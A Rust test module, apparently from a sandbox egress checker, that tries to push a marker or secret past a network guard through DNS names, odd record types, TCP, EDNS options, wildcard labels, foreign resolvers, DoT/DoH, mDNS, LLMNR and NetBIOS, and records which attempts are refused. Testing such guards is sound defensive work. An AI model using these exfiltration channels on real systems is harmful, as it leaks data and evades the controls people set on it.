//! Data in questions: by name, by type, beside the question, to any server.

use std::net::{Ipv4Addr, Ipv6Addr};

use super::{
    group::bind_to_device,
    link::device,
    place::{MARK, bait4, v4, v6},
    question::{self, A, Question},
    raw::Socket,
    variants::strongest,
};
use crate::escape::{
    Attempt, Ground, Limit, Outcome,
    attempt::Tried,
    ground::{
        ALLOWED_NAME, BAIT_V4, DENIED_NAME, OTHER_RESOLVER_V4, OTHER_RESOLVER_V6, RESOLVER_V4,
    },
};

pub(super) const ALL: &[Attempt] = &[
    Attempt {
        name: "dns-denied-name",
        title: "DNS: data in a name that no rule allows",
        run: |ground| Outcome::of(denied_name(ground)),
        limit: None,
    },
    Attempt {
        name: "dns-denied-types",
        title: "DNS: the same by TXT, NULL, ANY, zone transfer and unknown types",
        run: |ground| Outcome::of(denied_types(ground)),
        limit: None,
    },
    Attempt {
        name: "dns-allowed-name-types",
        title: "DNS: an allowed name by types that no address look-up needs",
        run: |ground| Outcome::of(allowed_name_types(ground)),
        limit: None,
    },
    Attempt {
        name: "dns-tcp",
        title: "DNS over TCP: data in a name that no rule allows",
        run: |ground| Outcome::of(over_tcp(ground)),
        limit: None,
    },
    Attempt {
        name: "dns-edns",
        title: "DNS: data in EDNS options (cookie, client subnet, padding, unknown)",
        run: |ground| Outcome::of(edns(ground)),
        limit: None,
    },
    Attempt {
        name: "dns-behind",
        title: "DNS: data behind the question, and a second question",
        run: |ground| Outcome::of(behind(ground)),
        limit: None,
    },
    Attempt {
        name: "dns-wildcard-labels",
        title: "DNS: long labels full of data below an allowed wildcard",
        run: |ground| Outcome::of(wildcard_labels(ground)),
        limit: None,
    },
    Attempt {
        name: "dns-wildcard-words",
        title: "DNS: short labels with data below an allowed wildcard, within its budget",
        run: |ground| Outcome::of(wildcard_words(ground)),
        limit: Some(Limit::Everyone(
            "who runs the zone behind an allowed wildcard reads what is asked there: \
             `dns.wildcard_names` distinct names for each session, 64 unless set",
        )),
    },
    Attempt {
        name: "dns-wildcard-flood",
        title: "DNS: more short labels below an allowed wildcard than its budget",
        run: |ground| Outcome::of(wildcard_flood(ground)),
        limit: None,
    },
    Attempt {
        name: "dns-other-server",
        title: "DNS straight to a server that nobody configured",
        run: |ground| Outcome::of(other_server(ground)),
        limit: None,
    },
    Attempt {
        name: "dns-over-tls",
        title: "DNS over TLS and over QUIC (853)",
        run: |ground| Outcome::of(to_other_resolver(ground, 853)),
        limit: None,
    },
    Attempt {
        name: "dns-over-https",
        title: "DNS over HTTPS to a host that no rule allows",
        run: |ground| Outcome::of(to_other_resolver(ground, 443)),
        limit: None,
    },
    Attempt {
        name: "mdns",
        title: "multicast DNS (5353)",
        run: |ground| {
            Outcome::of(multicast(
                ground,
                5353,
                Ipv4Addr::new(224, 0, 0, 251),
                Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 0xfb),
            ))
        },
        limit: None,
    },
    Attempt {
        name: "llmnr",
        title: "link-local multicast name resolution (5355)",
        run: |ground| {
            Outcome::of(multicast(
                ground,
                5355,
                Ipv4Addr::new(224, 0, 0, 252),
                Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 1, 3),
            ))
        },
        limit: None,
    },
    Attempt {
        name: "netbios",
        title: "NetBIOS name service (137), asked and broadcast",
        run: |ground| Outcome::of(netbios(ground)),
        limit: None,
    },
];

const DNS: u16 = 53;
/// Response codes (RFC 1035).
const FORMAT_ERROR: u8 = 1;
const NOT_IMPLEMENTED: u8 = 4;
const REFUSED: u8 = 5;
const TXT: u16 = 16;

/// Asks and waits for the answer: whatever the resolver asks upstream is asked by then.
fn ask(socket: Tried<Socket>, to: &[u8], message: &[u8]) -> Tried<Vec<u8>> {
    let socket = socket?;
    socket.send_to(message, 0, to)?;
    socket.receive().map_err(Outcome::refused("recv"))
}

/// As [`ask`], on a connected socket.
fn ask_connected(socket: Tried<Socket>, to: &[u8], message: &[u8]) -> Tried<Vec<u8>> {
    let socket = socket?;
    socket.connect(to)?;
    socket.send(message)?;
    socket.receive().map_err(Outcome::refused("recv"))
}

/// A question that was sent is sent, whatever is answered. Silence is none of a refusal.
fn asked(answer: Tried<Vec<u8>>) -> Tried {
    match answer {
        Ok(message) => match question::answer(&message) {
            Some((FORMAT_ERROR | NOT_IMPLEMENTED | REFUSED, _)) => {
                Err(Outcome::Refused("the resolver refuses".to_owned()))
            }
            Some(_) | None => Ok(()),
        },
        Err(Outcome::Refused(text)) if text.starts_with("recv") => Ok(()),
        Err(other) => Err(other),
    }
}

/// The servers that a session may know of: the upstream itself, and the stub of systemd.
fn servers() -> [Vec<u8>; 2] {
    [v4(RESOLVER_V4, DNS), v4(Ipv4Addr::new(127, 0, 0, 53), DNS)]
}

fn denied_name(ground: &Ground) -> Tried {
    // Upper case, spelled backwards in case, and in a name that ends like an allowed one.
    let names = [
        question::secret_name(),
        format!("ESCAPE.not{ALLOWED_NAME}"),
        format!("ESCAPE.{ALLOWED_NAME}"),
        format!("{ALLOWED_NAME}.ESCAPE.{DENIED_NAME}"),
    ];
    let tries = names.map(|name| {
        let message = Question::new(&name, A).to_bytes();
        strongest(servers().map(|server| {
            strongest([
                asked(ask(Socket::udp4(ground), &server, &message)),
                asked(ask_connected(Socket::udp4(ground), &server, &message)),
            ])
        }))
    });
    strongest(tries)
}

/// HINFO, NULL, TXT, SRV, HTTPS, IXFR, AXFR, ANY, and two of no meaning.
const TYPES: [u16; 10] = [13, 10, TXT, 33, 65, 251, 252, 255, 0xff00, 0];

fn denied_types(ground: &Ground) -> Tried {
    let server = v4(RESOLVER_V4, DNS);
    strongest(TYPES.map(|kind| {
        let message = Question::new(&question::secret_name(), kind).to_bytes();
        asked(ask(Socket::udp4(ground), &server, &message))
    }))
}

fn allowed_name_types(ground: &Ground) -> Tried {
    let server = v4(RESOLVER_V4, DNS);
    // Records of such a type come from the zone of whoever answers: a way in and out. The mark
    // beside the question shows the way of the control run.
    strongest([13, 10, TXT, 33, 252, 0xff00].map(|kind| {
        let message = question::with_option(kind, UNKNOWN_OPTION, MARK).to_bytes();
        let answer = ask(Socket::udp4(ground), &server, &message);
        if ground.guarded
            && let Ok(message) = &answer
            && let Some((0, 1..)) = question::answer(message)
        {
            return Err(Outcome::Escaped(format!(
                "records of type {kind} were fetched"
            )));
        }
        asked(answer)
    }))
}

fn over_tcp(ground: &Ground) -> Tried {
    let message = Question::new(&question::secret_name(), TXT).to_stream();
    let tries = servers().map(|server| {
        let answer = ask_connected(Socket::tcp4(ground), &server, &message);
        asked(answer.map(|stream| last_message(&stream)))
    });
    // Two questions in one stream, the first of them allowed.
    let second = || {
        let mut stream = Question::new(ALLOWED_NAME, A).to_stream();
        stream.extend(&message);
        let socket = Socket::tcp4(ground)?;
        socket.connect(&v4(RESOLVER_V4, DNS))?;
        socket.send(&stream)?;
        let mut answers = Vec::new();
        while count_messages(&answers) < 2
            && let Ok(more @ [_, ..]) = socket.receive().as_deref()
        {
            answers.extend_from_slice(more);
        }
        if count_messages(&answers) < 2 {
            let silence = "the second question is not answered".to_owned();
            return Err(Outcome::Refused(silence));
        }
        asked(Ok(last_message(&answers)))
    };
    strongest([strongest(tries), second()])
}

/// The messages of a stream, each behind its length.
fn messages(mut stream: &[u8]) -> impl Iterator<Item = &[u8]> {
    std::iter::from_fn(move || {
        let (length, rest) = stream.split_first_chunk::<2>()?;
        let (message, rest) = rest.split_at_checked(u16::from_be_bytes(*length).into())?;
        stream = rest;
        Some(message)
    })
}

fn count_messages(stream: &[u8]) -> usize {
    messages(stream).count()
}

fn last_message(stream: &[u8]) -> Vec<u8> {
    messages(stream).last().unwrap_or_default().to_vec()
}

/// Reserved for local use (RFC 6891 section 9).
const UNKNOWN_OPTION: u16 = 65001;

fn edns(ground: &Ground) -> Tried {
    let server = v4(RESOLVER_V4, DNS);
    let mut cookie = MARK.to_vec();
    cookie.extend([0; 2]);
    // Family 1, 32 bits of an address: four bytes that the client chooses.
    let mut subnet = vec![0, 1, 32, 0];
    subnet.extend(BAIT_V4.octets());
    subnet.extend(MARK);
    let options: [(u16, &[u8]); 5] = [
        (10, &cookie),
        (8, &subnet),
        (12, MARK),
        (3, MARK),
        (UNKNOWN_OPTION, MARK),
    ];
    strongest(options.map(|(code, content)| {
        let message = question::with_option(A, code, content).to_bytes();
        asked(ask(Socket::udp4(ground), &server, &message))
    }))
}

fn behind(ground: &Ground) -> Tried {
    let server = v4(RESOLVER_V4, DNS);
    let trailing = Question {
        behind: MARK.to_vec(),
        ..Question::new(ALLOWED_NAME, A)
    };
    // A second question of the same message, which the count announces.
    let mut second = Question::new(ALLOWED_NAME, A).to_bytes();
    let secret = question::secret();
    second.extend(secret.get(12..).unwrap_or_default());
    second.splice(4..6, [0, 2]);
    // A record behind the question, as a zone update has it.
    let mut record = second.clone();
    record.splice(4..6, [0, 1]);
    record.splice(10..12, [0, 1]);
    record.extend([0, 0, 0, 0, 0, 0]);
    strongest(
        [trailing.to_bytes(), second, record]
            .map(|message| asked(ask(Socket::udp4(ground), &server, &message))),
    )
}

fn wildcard_labels(ground: &Ground) -> Tried {
    let server = v4(RESOLVER_V4, DNS);
    let labels = [
        "ESCAPE-d2f1c8b07a9e4435b6d0aa1757c0ffee00112233445566",
        "ESCAPEd2f1c8b07a9e4435b6d0aa17",
        "0123456789ESCAPE0123456789",
        "ESCAPE.d2f1c8b07a9e4435b6d0aa17",
    ];
    strongest(labels.map(|label| {
        let name = question::below_wildcard(label);
        let message = Question::new(&name, A).to_bytes();
        asked(ask(Socket::udp4(ground), &server, &message))
    }))
}

/// More than any budget that a test would set.
const FLOOD: u32 = 300;

fn wildcard_flood(ground: &Ground) -> Tried {
    let server = v4(RESOLVER_V4, DNS);
    let short = |label: String| {
        let message = Question::new(&question::below_wildcard(&label), A).to_bytes();
        asked(ask(Socket::udp4(ground), &server, &message))
    };
    // Names without the mark use the budget up; what follows must stay here.
    let refused = (0..FLOOD).any(|number| short(format!("host{number}")).is_err());
    if ground.guarded && !refused {
        return Err(Outcome::Escaped(format!(
            "{FLOOD} names below one wildcard were asked"
        )));
    }
    short(fresh_label())
}

/// A short label with the mark that nobody has asked for before: no cache answers it.
fn fresh_label() -> String {
    let mark = String::from_utf8_lossy(MARK);
    format!("{mark}{}", std::process::id())
}

fn wildcard_words(ground: &Ground) -> Tried {
    let name = question::below_wildcard(&fresh_label());
    let message = Question::new(&name, A).to_bytes();
    asked(ask(Socket::udp4(ground), &v4(RESOLVER_V4, DNS), &message))
}

fn other_server(ground: &Ground) -> Tried {
    let secret = question::secret();
    let stream = Question::new(&question::secret_name(), A).to_stream();
    let (to4, to6) = (v4(OTHER_RESOLVER_V4, DNS), v6(OTHER_RESOLVER_V6, DNS, 0));
    let mapped = v6(OTHER_RESOLVER_V4.to_ipv6_mapped(), DNS, 0);
    strongest([
        asked(ask(Socket::udp4(ground), &to4, &secret)),
        asked(ask(Socket::udp6(ground), &to6, &secret)),
        asked(ask(Socket::udp6(ground), &mapped, &secret)),
        asked(ask(Socket::udp6(ground), &to4, &secret)),
        asked(ask_connected(Socket::udp4(ground), &to4, &secret)),
        asked(ask_connected(Socket::udp6(ground), &to6, &secret)),
        asked(ask_connected(Socket::tcp4(ground), &to4, &stream)),
        asked(ask_connected(Socket::tcp6(ground), &to6, &stream)),
        // What is no DNS at all, to the port of DNS.
        asked(ask(Socket::udp4(ground), &to4, MARK)),
        asked(ask_connected(Socket::tcp4(ground), &to4, MARK)),
    ])
}

fn to_other_resolver(ground: &Ground, port: u16) -> Tried {
    let (to4, to6) = (v4(OTHER_RESOLVER_V4, port), v6(OTHER_RESOLVER_V6, port, 0));
    let datagram = |socket: Tried<Socket>, to: &[u8]| socket?.send_to(MARK, 0, to);
    let stream = |socket: Tried<Socket>, to: &[u8]| {
        let socket = socket?;
        socket.connect(to)?;
        socket.send(MARK)
    };
    strongest([
        datagram(Socket::udp4(ground), &to4),
        datagram(Socket::udp6(ground), &to6),
        stream(Socket::tcp4(ground), &to4),
        stream(Socket::tcp6(ground), &to6),
    ])
}

/// To the groups of the protocol, and straight to one machine.
fn multicast(ground: &Ground, port: u16, group4: Ipv4Addr, group6: Ipv6Addr) -> Tried {
    let message = question::secret();
    let scope = device(ground)?;
    let bound = |socket: Tried<Socket>| {
        let socket = socket?;
        bind_to_device(&socket, ground)?;
        Ok(socket)
    };
    let send = |socket: Tried<Socket>, to: &[u8]| socket?.send_to(&message, 0, to);
    strongest([
        send(bound(Socket::udp4(ground)), &v4(group4, port)),
        send(bound(Socket::udp6(ground)), &v6(group6, port, scope)),
        send(Socket::udp4(ground), &v4(BAIT_V4, port)),
        // The client's own port is that of the service.
        Socket::udp4(ground).and_then(|socket| {
            socket.bind(&v4(Ipv4Addr::UNSPECIFIED, port))?;
            send(bound(Ok(socket)), &v4(group4, port))
        }),
    ])
}

fn netbios(ground: &Ground) -> Tried {
    let broadcast = || {
        let socket = Socket::udp4(ground)?;
        socket.set_int(libc::SOL_SOCKET, libc::SO_BROADCAST, 1)?;
        bind_to_device(&socket, ground)?;
        socket.send_to(MARK, 0, &v4(Ipv4Addr::new(192, 0, 2, 255), 137))
    };
    strongest([
        broadcast(),
        Socket::udp4(ground).and_then(|socket| socket.send_to(MARK, 0, &v4(BAIT_V4, 137))),
        // The session service, for the sake of the family.
        Socket::tcp4(ground).and_then(|socket| socket.connect(&v4(BAIT_V4, 139))),
        Socket::tcp4(ground).and_then(|socket| socket.connect(&bait4())),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_stream_is_cut_into_its_whole_messages() {
        let stream = [0, 1, 7, 0, 2, 8, 9, 0, 3, 1];
        assert_eq!(count_messages(&stream), 2);
        assert_eq!(last_message(&stream), [8, 9]);
        assert!(last_message(&[0]).is_empty());
    }
}
